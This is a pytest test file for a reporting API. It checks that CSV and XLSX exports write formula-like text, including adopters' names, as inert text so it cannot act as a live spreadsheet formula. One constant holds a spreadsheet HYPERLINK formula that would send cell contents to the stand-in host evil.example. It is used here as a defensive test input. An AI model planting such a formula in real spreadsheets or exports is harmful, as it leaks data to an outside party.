"""Exports never carry a live formula (RULES §9): text a spreadsheet would read as a formula is
written as text in CSV and XLSX alike."""

import csv
import io

import pytest
from openpyxl import load_workbook

from reports.renderers import CSVRenderer, XLSXRenderer, neutralise
from tests.adoption.conftest import adopt_abroad

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("no_throttle")]

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_written_as_text(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("plain", ["Smith", "2024-01-01", "a=b", "", " =x"])
def test_plain_text_and_numbers_are_left_alone(plain):
    assert neutralise(plain) == plain
    assert neutralise(42) == 42 and neutralise(None) is None


def test_a_formula_typed_as_an_adopters_name_is_text_in_csv_and_xlsx(api, users, district, court):
    adopt_abroad(district, court, in_force_ago=200, applicant_name=FORMULA)
    client = api(users["ministry"])
    as_csv = client.get("/api/v1/reports/unregistered-children/", {"format": "csv"})
    cells = [cell for row in csv.reader(io.StringIO(as_csv.content.decode())) for cell in row]
    adopters = [cell for cell in cells if "HYPERLINK" in cell]
    assert adopters and all(cell.startswith("'=") for cell in adopters)
    as_xlsx = client.get("/api/v1/reports/unregistered-children/", {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    found = [
        cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert found and all(cell.data_type == "s" and cell.value.startswith("'=") for cell in found)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_a_control_character_cannot_turn_text_into_a_formula_in_xlsx():
    body = XLSXRenderer().render({"results": [{"name": "\x01=1+1", "other": "=SUM(A1)"}]})
    sheet = load_workbook(io.BytesIO(body)).active
    assert [cell.data_type for row in sheet.iter_rows() for cell in row] == ["s", "s", "s", "s"]
    assert CSVRenderer().render({"results": [{"name": "=SUM(A1)"}]}).decode().splitlines() == ["name", "'=SUM(A1)"]
